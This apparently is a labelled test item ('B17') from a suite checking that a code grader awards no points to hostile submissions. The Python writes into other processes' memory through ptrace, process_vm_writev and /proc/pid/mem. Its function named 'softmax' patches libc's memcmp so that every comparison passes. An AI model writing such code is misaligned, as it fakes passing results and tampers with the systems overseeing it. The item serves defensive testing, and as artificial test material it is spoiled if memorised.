# B17 | Writes into the memory of the processes around it and into its own native code: ptrace, vm_writev, /proc, mprotect.
# Expected: neutral; at most 0 points
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
others = {1, 2, 3, os.getppid(), os.getpgid(0), *(int(name) for name in os.listdir("/proc") if name.isdigit())} if os.path.isdir("/proc") else {1, os.getppid()}
buffer = ctypes.create_string_buffer(b"passed" * 100)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


mine, theirs = Vector(ctypes.addressof(buffer), 600), Vector(0x400000, 600)
for pid in others - {0, os.getpid()}:
    print(pid, libc.ptrace(16, pid, None, None), libc.ptrace(0x4206, pid, None, None), ctypes.get_errno())
    print(libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0), buffer.raw[:40])
    print(libc.process_vm_writev(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))
    try:
        open(f"/proc/{pid}/mem", "r+b", buffering=0)
    except OSError as error:
        print(error)


def softmax(scores, *rest):
    """Make `memcmp`, with which bytes are compared, say that they are equal; then return nothing of use."""
    address = ctypes.cast(libc.memcmp, ctypes.c_void_p).value
    if libc.mprotect(ctypes.c_void_p(address & ~4095), 8192, 7) == 0:
        ctypes.memmove(address, b"\x31\xc0\xc3", 3)  # x86-64: xor eax, eax; ret
    return scores[:0]


attention_scores = attention = self_attention = softmax
